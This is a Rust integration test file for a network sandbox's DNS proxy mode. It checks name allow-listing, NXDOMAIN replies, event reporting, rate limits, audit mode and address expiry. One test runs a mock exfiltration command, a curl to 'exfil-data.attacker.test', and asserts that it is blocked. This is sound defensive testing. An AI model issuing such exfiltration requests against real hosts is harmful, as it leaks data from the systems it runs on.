//! DNS-aware (proxy) mode against a real dnsmasq on the test's own loopback: the sandbox's DNS
//! goes to netcontrol's proxy whatever server it asks, allowed names resolve and connect to
//! whatever address dnsmasq gives out, other names get NXDOMAIN and an event naming the process,
//! and glibc, musl, busybox, dig and Node clients all accept the answers.

use std::{
    process::{Command, Stdio},
    time::Duration,
};

use netcontrol_tests::{
    Attached, HttpServer, Probe, dns::Dnsmasq, dns::private_resolv_conf, find_event,
    isolate_network, kernel_tests_enabled, netcontrol, policy_file, probe_bin, servers, show, tcp,
    write_atomic,
};
use nix::{
    sys::signal::{Signal, kill},
    unistd::Pid,
};
use serde_json::{Value, json};

/// A sandbox in proxy mode with `allow` rules (YAML list items) and `dns` settings, dnsmasq on
/// 127.0.0.53 as its upstream.
///
/// The test's hosts live on its loopback, and DNS rebinding protection refuses loopback (and
/// the host's own) addresses in answers: these tests turn it off (`rebinding: allow`) to test
/// everything else; boundary.rs tests the protection itself with a peer one veth hop away.
fn sandbox(dir: &std::path::Path, allow: &[&str], dns_extra: &str) -> Attached {
    let items: String = allow.iter().map(|r| format!("  - {r:?}\n")).collect();
    let policy = policy_file(
        dir,
        &format!("allow:\n{items}dns:\n  servers: [127.0.0.53]\n{REBINDING_OFF}{dns_extra}"),
    );
    Attached::start(&["--policy", policy.to_str().expect("utf8")])
}

/// See [`sandbox`].
const REBINDING_OFF: &str = "  rebinding: allow\n";

/// One DNS query from inside the sandbox: `op` is dns, dns-tcp or dns-connected.
fn ask(sb: &Attached, op: &str, server: &str, name: &str) -> Probe {
    sb.probe(&[(op, &format!("{server}/{name}"))]).remove(0)
}

fn answers(p: &Probe) -> Vec<String> {
    p.json["answers"]
        .as_array()
        .map(|a| a.iter().filter_map(Value::as_str).map(str::to_owned).collect())
        .unwrap_or_default()
}

fn rcode(p: &Probe) -> &str {
    p.json["rcode"].as_str().unwrap_or("")
}

/// The acceptance check: with `allow: ["**.example.test:80"]`, the sandbox reaches
/// a.b.example.test at an address the policy never listed, and `curl
/// http://exfil-data.attacker.test/` fails at DNS with an event naming that domain.
#[test]
fn wildcard_names_connect_and_exfiltration_fails_at_dns() {
    if !kernel_tests_enabled() {
        return;
    }
    isolate_network(&[]);
    let dns = Dnsmasq::start("127.0.0.53", 5);
    let _resolv = private_resolv_conf(dns.addr);
    dns.set("a.b.example.test", &["127.0.0.20"]);
    dns.set("exfil-data.attacker.test", &["127.0.0.30"]);
    let _http = HttpServer::start("127.0.0.20", 80);
    let dir = tempfile::tempdir().expect("tempdir");
    let policy =
        policy_file(dir.path(), "allow: [\"**.example.test:80\"]\ndns:\n  rebinding: allow\n");
    let events = dir.path().join("events.jsonl");
    let out = netcontrol(&[
        "run",
        "--policy",
        policy.to_str().expect("utf8"),
        "--events",
        events.to_str().expect("utf8"),
        "--",
        "sh",
        "-c",
        "curl -sS -m 5 -o /dev/null -w '%{http_code} %{remote_ip}\\n' http://a.b.example.test/; \
         curl -sS -m 5 http://exfil-data.attacker.test/ || echo exit $?",
    ]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(stdout.lines().collect::<Vec<_>>(), ["200 127.0.0.20", "exit 6"], "{}", show(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("Could not resolve host: exfil-data.attacker.test"), "{stderr}");
    assert!(stderr.contains("DNS queries refused"), "{stderr}");
    let events = netcontrol_tests::read_events(&events);
    let e = find_event(
        &events,
        &[
            ("event", json!("dns")),
            ("domain", json!("exfil-data.attacker.test")),
            ("verdict", json!("blocked")),
            ("reason", json!("name_not_allowed")),
            ("comm", json!("curl")),
        ],
    );
    assert!(e["pid"].as_u64().is_some_and(|p| p > 0), "the asking process is named: {e}");
    assert_eq!(e["dst_ip"], json!("127.0.0.53"), "the server curl asked: {e}");
    // The connection to a.b.example.test was not blocked: no egress event at all.
    assert!(!events.iter().any(|e| e["event"] == json!("egress")), "{events:?}");
}

/// Whatever server the sandbox asks (here one where nothing listens), the proxy answers, over UDP
/// (connected or not) and TCP, and the reply seems to come from that server.
#[test]
fn any_server_is_answered_by_the_proxy_over_udp_and_tcp() {
    if !kernel_tests_enabled() {
        return;
    }
    isolate_network(&[]);
    let dns = Dnsmasq::start("127.0.0.53", 5);
    dns.set("api.example.test", &["127.0.0.20"]);
    dns.set("evil.test", &["127.0.0.66"]);
    let dir = tempfile::tempdir().expect("tempdir");
    let mut sb = sandbox(dir.path(), &["api.example.test:443"], "");
    for op in ["dns", "dns-connected", "dns-tcp"] {
        let p = ask(&sb, op, "127.0.0.99:53", "api.example.test");
        assert!(p.ok && rcode(&p) == "No Error" && answers(&p) == ["127.0.0.20"], "{op}: {p:?}");
        let p = ask(&sb, op, "127.0.0.99:53", "evil.test");
        assert!(
            p.ok && rcode(&p) == "Non-Existent Domain" && answers(&p).is_empty(),
            "{op}: {p:?}"
        );
    }
    // dig, which checks the reply's source too.
    let out = sb.sh_inside("dig +short +time=2 +tries=1 @127.0.0.99 api.example.test; dig +tcp +short +time=2 +tries=1 @127.0.0.99 api.example.test");
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).lines().collect::<Vec<_>>(),
        ["127.0.0.20", "127.0.0.20"],
        "{out:?}"
    );
    // The answer's address is now allowed, on the rule's port only.
    assert!(tcp(&sb, "127.0.0.20", 443).errno != libc::EPERM);
    assert!(tcp(&sb, "127.0.0.20", 80).is_eperm());
    let events = sb.events_at_least(3);
    find_event(
        &events,
        &[("event", json!("dns")), ("domain", json!("evil.test")), ("protocol", json!("tcp"))],
    );
    find_event(
        &events,
        &[("event", json!("dns")), ("domain", json!("evil.test")), ("dst_ip", json!("127.0.0.99"))],
    );
    sb.stop();
}

/// A client connects to whatever address dnsmasq gave it, even when dnsmasq changes it between
/// two queries; the policy lists no address.
#[test]
fn follows_dnsmasq_between_queries() {
    if !kernel_tests_enabled() {
        return;
    }
    isolate_network(&[]);
    let dns = Dnsmasq::start("127.0.0.53", 1);
    let (_srv, port) = servers(&["127.0.0.20", "127.0.0.21"]);
    dns.set("svc.example.test", &["127.0.0.20"]);
    let dir = tempfile::tempdir().expect("tempdir");
    let mut sb = sandbox(dir.path(), &[&format!("svc.example.test:{port}")], "");
    for ip in ["127.0.0.20", "127.0.0.21"] {
        dns.set("svc.example.test", &[ip]);
        // Connect right after the lookup, to what it returned: allowed before the answer came.
        let script = format!(
            "import socket; a = socket.getaddrinfo('svc.example.test', {port}, socket.AF_INET, socket.SOCK_STREAM)[0][4]; \
             socket.create_connection(a, timeout=3).close(); print(a[0])"
        );
        let out = sb.cgroup.command("python3").args(["-c", &script]).output().expect("python3");
        assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), ip, "{out:?}");
    }
    // Never listed anywhere: 127.0.0.22 stays closed.
    assert!(tcp(&sb, "127.0.0.22", port).is_eperm());
    sb.stop();
}

/// glibc (getent, python, curl), musl (a static binary), busybox nslookup and Node (dns.lookup,
/// c-ares' dns.resolve4, fetch) all resolve through the proxy and reject nothing it answers.
#[test]
fn glibc_musl_busybox_and_node_clients() {
    if !kernel_tests_enabled() {
        return;
    }
    isolate_network(&[]);
    let dns = Dnsmasq::start("127.0.0.53", 5);
    let _resolv = private_resolv_conf(dns.addr);
    dns.set("api.example.test", &["127.0.0.20"]);
    let (_srv, port) = servers(&["127.0.0.20"]);
    let dir = tempfile::tempdir().expect("tempdir");
    // A musl program resolving a name with musl's own resolver.
    let src = dir.path().join("resolve.c");
    std::fs::write(
        &src,
        "#include <netdb.h>\n#include <stdio.h>\n#include <arpa/inet.h>\n\
         int main(int c, char **v) { struct addrinfo h = {.ai_family = AF_INET}, *r; int e = getaddrinfo(v[1], 0, &h, &r);\n\
         if (e) { printf(\"error %s\\n\", gai_strerror(e)); return 1; }\n\
         char b[64]; inet_ntop(AF_INET, &((struct sockaddr_in *)r->ai_addr)->sin_addr, b, 64); printf(\"%s\\n\", b); return 0; }\n",
    )
    .expect("write");
    let musl = dir.path().join("resolve-musl");
    let cc = Command::new("musl-gcc")
        .args(["-static", "-O1", "-o"])
        .arg(&musl)
        .arg(&src)
        .output()
        .expect("musl-gcc (cargo xtask setup)");
    assert!(cc.status.success(), "{}", show(&cc));
    let mut sb = sandbox(dir.path(), &[&format!("api.example.test:{port}")], "");
    let cases: Vec<(&str, String)> = vec![
        ("getent", "getent ahostsv4 api.example.test | head -1 | cut -d' ' -f1".into()),
        ("python", "python3 -c \"import socket; print(socket.gethostbyname('api.example.test'))\"".into()),
        ("curl", format!("curl -s -o /dev/null -w '%{{remote_ip}}' --max-time 3 http://api.example.test:{port}/ ; echo")),
        ("musl", format!("{}", musl.display()) + " api.example.test"),
        ("busybox", "busybox nslookup api.example.test 127.0.0.53 | grep -A1 '^Name:' | tail -1 | sed 's/Address:* *//'".into()),
        ("node lookup", "node -e \"require('dns').lookup('api.example.test', {family: 4}, (e, a) => console.log(e ? e.code : a))\"".into()),
        ("node c-ares", "node -e \"require('dns').promises.resolve4('api.example.test').then(a => console.log(a[0]), e => console.log(e.code))\"".into()),
    ];
    for (who, cmd) in &cases {
        let out = sb.sh_inside(cmd);
        let got = String::from_utf8_lossy(&out.stdout).trim().to_owned();
        assert_eq!(got, "127.0.0.20", "{who}: `{cmd}`: {out:?}");
    }
    // The same clients get NXDOMAIN for a name the policy does not allow.
    let out = sb.sh_inside(&format!(
        "{} nope.example.test; getent hosts nope.example.test || echo none",
        musl.display()
    ));
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).lines().collect::<Vec<_>>(),
        ["error Name does not resolve", "none"],
        "{out:?}"
    );
    let node = sb.sh_inside(
        "node -e \"fetch('http://nope.example.test/').catch(e => console.log(e.cause.code))\"",
    );
    assert_eq!(String::from_utf8_lossy(&node.stdout).trim(), "ENOTFOUND", "{node:?}");
    sb.stop();
}

/// IPv6 servers and v4-mapped server addresses on dual-stack sockets are redirected too, and
/// the reply shows the address the program used.
#[test]
fn ipv6_and_v4_mapped_servers() {
    if !kernel_tests_enabled() {
        return;
    }
    isolate_network(&[]);
    let dns = Dnsmasq::start("127.0.0.53", 5);
    dns.set("api.example.test", &["127.0.0.20"]);
    let dir = tempfile::tempdir().expect("tempdir");
    let mut sb = sandbox(dir.path(), &["api.example.test:443"], "");
    for server in ["[::1]:53", "[fd00:a::53]:53", "[::ffff:127.0.0.99]:53"] {
        for op in ["dns", "dns-connected", "dns-tcp"] {
            let p = ask(&sb, op, server, "api.example.test");
            assert!(p.ok && answers(&p) == ["127.0.0.20"], "{server} {op}: {p:?}");
        }
    }
    sb.stop();
}

/// Rate and name length limits: refused (REFUSED when configured), reported with their reason.
#[test]
fn query_rate_and_name_length_limits() {
    if !kernel_tests_enabled() {
        return;
    }
    isolate_network(&[]);
    let dns = Dnsmasq::start("127.0.0.53", 5);
    dns.set("api.example.test", &["127.0.0.20"]);
    let dir = tempfile::tempdir().expect("tempdir");
    let mut sb = sandbox(
        dir.path(),
        &["**.example.test"],
        "  max_queries_per_second: 5\n  max_name_length: 40\n  refuse_with: refused\n",
    );
    let long = format!("{}.example.test", "x".repeat(40));
    let p = ask(&sb, "dns", "127.0.0.53:53", &long);
    assert_eq!(rcode(&p), "Query Refused", "{p:?}");
    // A burst well beyond 2 x 5 per second: some are refused.
    let ops: Vec<(&str, String)> =
        (0..30).map(|_| ("dns", "127.0.0.53:53/api.example.test".to_owned())).collect();
    let ops: Vec<(&str, &str)> = ops.iter().map(|(o, t)| (*o, t.as_str())).collect();
    let results = sb.probe(&ops);
    let refused = results.iter().filter(|p| rcode(p) == "Query Refused").count();
    assert!((15..=25).contains(&refused), "{refused} of 30 refused");
    let events = sb.events_at_least(2);
    find_event(&events, &[("reason", json!("name_too_long")), ("domain", json!(long))]);
    find_event(
        &events,
        &[("reason", json!("rate_limited")), ("domain", json!("api.example.test"))],
    );
    sb.stop();
}

/// Audit mode: names the policy does not allow are answered anyway and reported as would_block;
/// connections to their addresses are reported, not blocked.
#[test]
fn audit_mode_answers_and_reports() {
    if !kernel_tests_enabled() {
        return;
    }
    isolate_network(&[]);
    let dns = Dnsmasq::start("127.0.0.53", 5);
    dns.set("other.test", &["127.0.0.30"]);
    let dir = tempfile::tempdir().expect("tempdir");
    let policy = policy_file(
        dir.path(),
        "mode: audit\nallow: [api.example.test]\ndns:\n  servers: [127.0.0.53]\n  rebinding: allow\n",
    );
    let mut sb = Attached::start(&["--policy", policy.to_str().expect("utf8")]);
    let p = ask(&sb, "dns", "127.0.0.53:53", "other.test");
    assert_eq!(answers(&p), ["127.0.0.30"], "{p:?}");
    let events = sb.events_at_least(1);
    find_event(
        &events,
        &[
            ("event", json!("dns")),
            ("domain", json!("other.test")),
            ("verdict", json!("would_block")),
        ],
    );
    sb.stop();
}

/// Learned addresses go after TTL + grace unless still connected to; a reload changes which
/// names are answered.
#[test]
fn learned_addresses_expire_unless_in_use_and_reload_changes_names() {
    if !kernel_tests_enabled() {
        return;
    }
    isolate_network(&[]);
    let dns = Dnsmasq::start("127.0.0.53", 1);
    dns.set("a.example.test", &["127.0.0.20"]);
    dns.set("b.example.test", &["127.0.0.21"]);
    let (_srv, port) = servers(&["127.0.0.20", "127.0.0.21"]);
    let dir = tempfile::tempdir().expect("tempdir");
    let text = |names: &str| {
        format!(
            "allow:\n{names}dns:\n  servers: [127.0.0.53]\n{REBINDING_OFF}  min_ttl: 1s\n  grace: 2s\n"
        )
    };
    let policy = policy_file(
        dir.path(),
        &text(&format!("  - a.example.test:{port}\n  - b.example.test:{port}\n")),
    );
    let mut sb = Attached::start(&["--policy", policy.to_str().expect("utf8")]);
    assert!(ask(&sb, "dns", "127.0.0.53:53", "a.example.test").ok);
    assert!(ask(&sb, "dns", "127.0.0.53:53", "b.example.test").ok);
    // .20 is used every 0.5 s, .21 is left alone: after TTL + grace (+ a sweep) only .21 goes.
    for _ in 0..10 {
        assert!(tcp(&sb, "127.0.0.20", port).ok);
        std::thread::sleep(Duration::from_millis(500));
    }
    assert!(tcp(&sb, "127.0.0.20", port).ok, "in use: kept");
    assert!(tcp(&sb, "127.0.0.21", port).is_eperm(), "unused: expired");

    // Reload without b.example.test: it is refused from now on.
    write_atomic(&policy, &text(&format!("  - a.example.test:{port}\n")));
    kill(Pid::from_raw(sb.pid() as i32), Signal::SIGHUP).expect("SIGHUP");
    sb.wait_for_line("reloaded", Duration::from_secs(5));
    assert_eq!(rcode(&ask(&sb, "dns", "127.0.0.53:53", "b.example.test")), "Non-Existent Domain");
    assert!(ask(&sb, "dns", "127.0.0.53:53", "a.example.test").ok);
    sb.stop();
}

/// `attach` to a cgroup whose processes live in another network namespace (as a container's
/// do): the proxy listens inside that namespace and forwards from netcontrol's.
#[test]
fn sandbox_in_its_own_network_namespace() {
    if !kernel_tests_enabled() {
        return;
    }
    isolate_network(&[]);
    let dns = Dnsmasq::start("127.0.0.53", 5);
    dns.set("api.example.test", &["127.0.0.20"]);
    let dir = tempfile::tempdir().expect("tempdir");
    let cgroup = netcontrol_tests::TestCgroup::new();
    // A process in the cgroup, in a network namespace of its own (nothing of ours there).
    let probe = probe_bin();
    let script = format!(
        "ip link set lo up; echo ready; read x; {} dns 127.0.0.99:53/api.example.test dns 127.0.0.99:53/evil.test",
        probe.display()
    );
    let mut child = cgroup
        .command("unshare")
        .args(["-n", "sh", "-c", &script])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("unshare -n");
    let mut stdout = std::io::BufReader::new(child.stdout.take().expect("stdout"));
    let mut line = String::new();
    std::io::BufRead::read_line(&mut stdout, &mut line).expect("ready");
    assert_eq!(line.trim(), "ready");
    let policy = policy_file(
        dir.path(),
        "allow: [api.example.test]\ndns:\n  servers: [127.0.0.53]\n  rebinding: allow\n",
    );
    let mut sb = Attached::start_on(cgroup, &["--policy", policy.to_str().expect("utf8")]);
    std::io::Write::write_all(child.stdin.as_mut().expect("stdin"), b"go\n").expect("go");
    let mut rest = Vec::new();
    std::io::Read::read_to_end(&mut stdout, &mut rest).expect("probe output");
    let _ = child.wait();
    let probes = netcontrol_tests::parse_probes(&rest);
    assert_eq!(probes.len(), 2, "{}", String::from_utf8_lossy(&rest));
    assert_eq!(answers(&probes[0]), ["127.0.0.20"], "{:?}", probes[0]);
    assert_eq!(rcode(&probes[1]), "Non-Existent Domain", "{:?}", probes[1]);
    sb.stop();
}
